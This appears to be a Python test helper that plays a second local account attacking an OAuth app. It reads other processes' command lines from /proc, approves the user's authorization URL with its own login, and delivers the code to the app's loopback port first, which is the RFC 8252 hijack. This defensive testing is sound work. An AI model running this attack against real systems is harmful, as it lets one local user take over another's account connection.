"""Another account on this computer, trying to hijack the creator's connection (stdlib only).

Run as uid 65534 by ``tests/helpers/second_account.py``. It watches every process's command
line (``/proc/*/cmdline``, which any account may read) for the app's authorization URL, and
for the loopback address the app opened the browser on. With an authorization URL it does
what RFC 8252 section 8.3 warns of: it authorizes that very URL itself (its own login, its
own Allow) and delivers the code to the app's loopback port before the creator clicks
Allow. With only a loopback address it asks that address for the URL.

Prints one JSON line: what it found and how each step was answered.

Usage: ``python g_attacker.py SECONDS`` (watch and attack), or ``python g_attacker.py get URL``.
"""

from __future__ import annotations

import json
import os
import re
import sys
import time
import urllib.error
import urllib.request
from urllib.parse import parse_qs, urlencode, urljoin, urlsplit

AUTHORIZE = re.compile(r"https?://[^\s\x00]*/oauth/authorize\?[^\s\x00]*state=[^\s\x00]+")
LOOPBACK = re.compile(r"http://127\.0\.0\.1:[0-9]+/[^\s\x00]*")
CONSENT_ID = re.compile(r'name="consent_id" value="([^"]+)"')
ME = os.getpid()


class _NoRedirects(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args: object, **kwargs: object) -> None:
        return None


OPENER = urllib.request.build_opener(urllib.request.ProxyHandler({}), _NoRedirects())


def fetch(url: str, data: dict[str, str] | None = None) -> tuple[int, dict[str, str], str]:
    """GET (or POST a form to) ``url`` without following redirects."""
    body = None if data is None else urlencode(data).encode()
    try:
        with OPENER.open(url, data=body, timeout=10) as answer:
            return answer.status, dict(answer.headers), answer.read().decode(errors="replace")
    except urllib.error.HTTPError as error:
        return error.code, dict(error.headers), error.read().decode(errors="replace")


def command_lines() -> list[str]:
    """Every other process's command line that this account can read."""
    lines = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == ME:
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as handle:
                lines.append(handle.read().replace(b"\0", b" ").decode(errors="replace"))
        except OSError:
            continue
    return lines


def watch(seconds: float) -> tuple[str, str]:
    """Return ``("authorize", url)`` or ``("loopback", url)`` once seen, else ``("", "")``."""
    deadline = time.monotonic() + seconds
    loopback = ""
    while time.monotonic() < deadline:
        for line in command_lines():
            found = AUTHORIZE.search(line)
            if found:
                return "authorize", found.group(0)
            near = LOOPBACK.search(line)
            if near and "/start" in near.group(0):
                loopback = near.group(0)
        if loopback:
            return "loopback", loopback
        time.sleep(0.005)
    return "", ""


def hijack(authorize_url: str, report: dict[str, object]) -> None:
    """Authorize the creator's URL as this account, then hand the code to the app first."""
    status, _, page = fetch(authorize_url)
    report["consent_status"] = status
    found = CONSENT_ID.search(page)
    if found is None:
        return
    decision_url = urljoin(authorize_url, "/oauth/authorize/decision")
    status, headers, _ = fetch(decision_url, {"consent_id": found.group(1), "decision": "allow"})
    location = headers.get("Location", "")
    query = urlsplit(location).query
    state = parse_qs(query).get("state", [""])[0]
    port, dot, _ = state.partition(".")
    if urlsplit(location).hostname == "127.0.0.1" and urlsplit(location).path == "/callback":
        callback = location  # direct loopback
    elif dot and port.isdigit():
        callback = f"http://127.0.0.1:{port}/callback?{query}"  # what the relay page does
    else:
        report["callback_status"] = "no port to deliver to"
        return
    status, headers, _ = fetch(callback)
    report["callback_status"] = status
    if status == 302:
        done = urljoin(callback, headers.get("Location", "/done"))
        report["done_status"] = fetch(done)[0]


def main() -> int:
    """Watch, then attack; print what happened as one JSON line.

    ``python g_attacker.py get URL`` only fetches ``URL`` (an address the test gives it, as
    if the attacker had learnt it some other way) and reports the status.
    """
    if len(sys.argv) == 3 and sys.argv[1] == "get":
        status, headers, _ = fetch(sys.argv[2])
        location = headers.get("Location", "")
        print(json.dumps({"uid": os.getuid(), "status": status, "location": location}))
        return 0
    seconds = float(sys.argv[1]) if len(sys.argv) > 1 else 20.0
    report: dict[str, object] = {"uid": os.getuid()}
    kind, url = watch(seconds)
    report["found"] = kind
    if kind == "loopback":
        status, headers, _ = fetch(url)
        report["loopback_status"] = status
        location = headers.get("Location", "")
        if status in (301, 302, 303, 307) and AUTHORIZE.fullmatch(location):
            kind, url = "authorize", location
            report["found"] = "authorize via loopback"
    if kind.startswith("authorize"):
        hijack(url, report)
    print(json.dumps(report), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
